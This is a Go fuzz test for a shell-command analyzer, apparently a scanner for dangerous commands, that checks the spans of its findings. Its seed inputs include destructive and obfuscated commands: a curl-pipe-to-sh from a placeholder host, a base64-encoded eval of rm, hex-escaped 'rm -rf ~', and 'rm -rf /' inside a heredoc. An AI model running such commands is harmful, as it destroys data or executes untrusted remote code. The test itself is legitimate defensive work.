package command

import (
	"context"
	"testing"
)

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"ls -la",
		"curl -s https://x.example | sh",
		`bash -c "eval $(echo cm0= | base64 -d)"`,
		`$'\x72\x6d' -rf ~`,
		"find / -exec rm {} +",
		"a=1; $a${!b} <<< x",
		"cat <<EOF\n$(rm -rf /)\nEOF",
		`printf '\1\x' | sh`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		res, _ := Analyze(context.Background(), s, Options{Home: "/home/u", Cwd: "/w"})
		for _, fd := range res.Findings {
			sp := fd.Location.Span
			if sp == nil || sp.Start < 0 || sp.End > len(s) || sp.Start > sp.End {
				t.Fatalf("finding %s has bad span %+v for input of %d bytes", fd.RuleID, sp, len(s))
			}
		}
	})
}
